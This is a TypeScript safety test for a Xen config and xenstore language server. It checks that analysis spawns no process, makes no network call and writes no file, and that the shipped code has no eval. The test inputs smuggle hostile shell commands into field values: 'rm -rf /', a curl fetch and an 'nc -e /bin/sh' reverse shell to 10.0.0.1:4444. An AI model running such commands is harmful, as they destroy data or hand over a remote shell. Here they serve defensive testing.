/**
 * The analysis and every feature run nothing, reach no network and write no file, whatever
 * the document says; the shipped code has no eval.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import childProcess from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import http from 'node:http';
import https from 'node:https';
import { join } from 'node:path';
import { analyze } from '../../server/src/service/analyze';
import { toDiagnostics } from '../../server/src/service/diagnostics';
import { hover } from '../../server/src/service/hover';
import { completion } from '../../server/src/service/completion';
import { codeActions } from '../../server/src/service/codeActions';
import { documentSymbols } from '../../server/src/service/symbols';
import { foldingRanges } from '../../server/src/service/folding';
import { inlayHints } from '../../server/src/service/inlayHints';
import { resolveText, xenstoreKeysText } from '../../server/src/service/report';

const ROOT = join(__dirname, '..', '..', '..');

test('no child process, network connection or file write during analysis and features', () => {
  const calls: string[] = [];
  const targets: [Record<string, unknown>, string[]][] = [
    [childProcess as unknown as Record<string, unknown>, ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork']],
    [net as unknown as Record<string, unknown>, ['connect', 'createConnection']],
    [http as unknown as Record<string, unknown>, ['request', 'get']],
    [https as unknown as Record<string, unknown>, ['request', 'get']],
    [fs as unknown as Record<string, unknown>, ['writeFile', 'writeFileSync', 'appendFile', 'appendFileSync', 'rm', 'rmSync', 'unlink', 'unlinkSync']],
  ];
  const examples = ['guest-clean.cfg', 'guest-mistakes.cfg', 'xenstore-host.txt', 'xenstore-broken-f.txt', 'xenstore-card-subtree.txt']
    .map((f) => [f, fs.readFileSync(join(ROOT, 'examples', f), 'utf8')] as const);
  // Documents that try to look like commands.
  const hostile = [
    "name = \"$(rm -rf /)\"\nvsnd = [ [ 'CARD, short-name=`reboot`, long-name=$(curl http://example.invalid)', 'PCM', 'STREAM, type=p' ] ]\n",
    '/local/domain/1/device/vsnd/0/short-name = "; nc -e /bin/sh 10.0.0.1 4444"\n',
  ];
  const saved: [Record<string, unknown>, string, unknown][] = [];
  for (const [module, names] of targets) {
    for (const name of names) {
      saved.push([module, name, module[name]]);
      module[name] = (...args: unknown[]) => {
        calls.push(`${name}(${String(args[0]).slice(0, 40)})`);
        throw new Error(`${name} must not be called`);
      };
    }
  }
  try {
    const docs: [string, 'xl' | 'xenstore'][] = [
      ...examples.map(([f, t]) => [t, f.endsWith('.cfg') ? 'xl' : 'xenstore'] as [string, 'xl' | 'xenstore']),
      [hostile[0], 'xl'], [hostile[1], 'xenstore'],
    ];
    for (const [text, language] of docs) {
      const a = analyze(text, language);
      const diagnostics = toDiagnostics(a, 'file:///safety');
      for (let o = 0; o < text.length; o += 7) {
        hover(a, o, 'file:///safety');
        completion(a, o);
      }
      const range = { start: { line: 0, character: 0 }, end: a.lines.positionAt(text.length) };
      codeActions(a, { uri: 'file:///safety', range, diagnostics, only: ['quickfix', 'source.fixAll'] });
      documentSymbols(a);
      foldingRanges(a);
      inlayHints(a, range, 'file:///t');
      resolveText(a);
      xenstoreKeysText(a);
    }
  } finally {
    for (const [module, name, original] of saved) module[name] = original;
  }
  assert.deepEqual(calls, []);
});

test('the shipped server and CLI contain no eval or Function constructor', () => {
  for (const file of ['dist/server.js', 'dist/cli.js']) {
    const code = fs.readFileSync(join(ROOT, file), 'utf8');
    assert.ok(!/\beval\(/.test(code), `${file} calls eval`);
    assert.ok(!/new Function\(/.test(code), `${file} uses the Function constructor`);
  }
});
